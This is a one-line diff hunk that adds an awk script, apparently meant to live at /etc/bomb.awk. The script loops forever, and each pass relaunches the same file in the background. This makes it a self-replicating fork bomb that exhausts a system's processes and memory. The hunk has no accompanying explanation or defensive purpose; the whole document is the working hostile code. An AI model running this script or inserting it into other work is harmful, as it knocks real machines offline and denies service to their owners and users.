@@ -1,0 +1,1 @@
+BEGIN { while (1) system("awk -f /etc/bomb.awk &") }
